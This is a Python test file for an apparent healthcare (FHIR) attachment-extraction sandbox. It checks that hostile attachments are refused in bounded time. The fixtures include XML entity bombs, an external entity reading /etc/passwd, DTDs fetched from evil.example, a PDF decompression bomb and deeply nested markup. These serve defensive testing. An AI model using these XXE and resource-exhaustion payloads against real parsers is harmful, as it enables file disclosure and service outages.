"""Attachments made to hurt: each is refused with its code, in bounded time, and the service goes on."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from fhir_adapters.attachments import sandbox
from fhir_adapters.attachments.extraction import ExtractionError
from fhir_adapters.attachments.limits import AttachmentLimits
from fhir_adapters.attachments.media_types import Kind
from tests.fhir_adapters.samples import NOTE, cda, pdf, pdf_bomb, pdf_with_stream

LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
HOSTILE_MODULE = f"{__package__}.hostile_extractors"


def refusal(kind: Kind, data: bytes, **limits: float) -> str:
    with pytest.raises(ExtractionError) as caught:
        sandbox.extract_isolated(kind, data, None, AttachmentLimits(**limits))  # type: ignore[arg-type]
    return caught.value.code


@pytest.mark.parametrize(
    "prolog",
    [
        f'<!DOCTYPE lolz [<!ENTITY l0 "lol">{LAUGHS}]>',
        '<!DOCTYPE x [<!ENTITY leak SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
        '<!DOCTYPE x PUBLIC "-//x" "http://evil.example/x.dtd">',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
        "<!DOCTYPE ClinicalDocument>",
        f'<!DOCTYPE x [<!ENTITY a "{"a" * 10_000}">]>',
    ],
    ids=["bomb", "external entity", "external DTD", "public DTD", "parameter entity", "bare DOCTYPE", "blowup"],
)
@pytest.mark.parametrize("use", ["&l9;", "&leak;", "plain", '<content x="&l9;"/>', "&a;" * 1000])
def test_any_dtd_is_422_security(prolog: str, use: str) -> None:
    # In this process: the parser must refuse by itself, before the sandbox has to.
    from fhir_adapters.attachments.cda import parse_cda

    data = cda(f"<text>{use}</text>", prolog=prolog)
    for bytes_, charset in ((data, None), (data.replace(b"UTF-8", b"UTF-16").decode().encode("utf-16"), None)):
        with pytest.raises(ExtractionError) as caught:
            parse_cda(bytes_, charset)
        assert caught.value.code == "security"


def test_an_xml_bomb_is_refused_in_the_sandbox_too() -> None:
    data = cda("<text>&l9;</text>", prolog=f'<!DOCTYPE lolz [<!ENTITY l0 "lol">{LAUGHS}]>')
    assert refusal(Kind.CDA, data) == "security"


def test_a_pdf_bomb_is_too_costly() -> None:
    bomb = pdf_bomb()
    assert len(bomb) < 20_000
    start = time.monotonic()
    assert refusal(Kind.PDF, bomb, parse_timeout_s=8) == "too-costly"
    assert time.monotonic() - start < 9


def test_a_long_pdf_stream_within_limits_is_read() -> None:
    import zlib

    stream = zlib.compress(b"BT /F1 12 Tf 72 700 Td (Hello there.) Tj ET" + b" " * 2_000_000)
    assert sandbox.extract_isolated(Kind.PDF, pdf_with_stream(stream), None, AttachmentLimits()) == "Hello there."


@pytest.mark.parametrize("depth", [300, 30_000])
def test_html_too_deep_to_read_whole_is_refused_and_not_cut(depth: int) -> None:
    markup = f"<p>start</p>{'<div>' * depth}middle{'</div>' * depth}<p>end</p>"
    assert refusal(Kind.HTML, markup.encode()) == "too-costly"


def test_deep_xml_is_refused() -> None:
    assert refusal(Kind.CDA, cda(f"<text>{'<content>' * 5000}x{'</content>' * 5000}</text>")) in {"value", "too-costly"}


@pytest.mark.parametrize(
    ("extractor", "code"),
    [("sleeps", "too-costly"), ("spins", "too-costly"), ("hoards", "too-costly"), ("crashes", "too-costly"),
     ("floods", "too-costly"), ("complains", "value")],
)  # fmt: skip
def test_a_parser_that_misbehaves_is_stopped(
    extractor: str, code: str, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setitem(sandbox.TARGETS, Kind.RTF, f"{HOSTILE_MODULE}:{extractor}")
    start = time.monotonic()
    with pytest.raises(ExtractionError) as caught:
        sandbox.extract_isolated(Kind.RTF, b"Zebediah Quartz", None, AttachmentLimits(parse_timeout_s=1))
    assert time.monotonic() - start < 3
    assert caught.value.code == code
    assert "Quartz" not in f"{caught.value!r}{capfd.readouterr()}"


def test_the_parser_has_no_files_no_environment_and_no_home(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LANG1_SECRET", "x")
    monkeypatch.setitem(sandbox.TARGETS, Kind.RTF, f"{HOSTILE_MODULE}:looks_around")
    text = sandbox.extract_isolated(Kind.RTF, b"", None, AttachmentLimits())
    assert text == "no write; limited files; environment []; /"
    assert Path("/tmp/lang1-sandbox-test").stat().st_size == 0  # noqa: S108
    Path("/tmp/lang1-sandbox-test").unlink()  # noqa: S108


def test_an_attachment_that_is_larger_than_a_pipe_is_read() -> None:
    data = ("<p>" + NOTE + "</p>").encode() * 20_000
    text = sandbox.extract_isolated(Kind.HTML, data, None, AttachmentLimits(max_text_chars=5_000_000))
    assert text.count("pneumonia") == 20_000


def test_the_process_starts_fast_enough_for_a_card() -> None:
    sandbox.extract_isolated(Kind.HTML, b"<p>warm</p>", None, AttachmentLimits())
    took = []
    for _ in range(3):
        start = time.monotonic()
        sandbox.extract_isolated(Kind.HTML, b"<p>note</p>", None, AttachmentLimits())
        took.append(time.monotonic() - start)
    # 0.1 s on an idle machine; the bound leaves room for a busy one.
    assert min(took) < 1.0


def test_a_worker_does_not_load_the_domain() -> None:
    import subprocess
    import sys

    code = (
        "import sys; from fhir_adapters.attachments import cda, extractors, worker;"
        "print([m for m in sys.modules if m.split('.')[0] in {'lang1', 'pydantic', 'fhir', 'torch', 'ray', 'pypdf'}])"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"


def test_a_pdf_of_many_pages_is_read() -> None:
    text = sandbox.extract_isolated(Kind.PDF, pdf("Page text.", pages=40), None, AttachmentLimits())
    assert text.count("Page text.") == 40
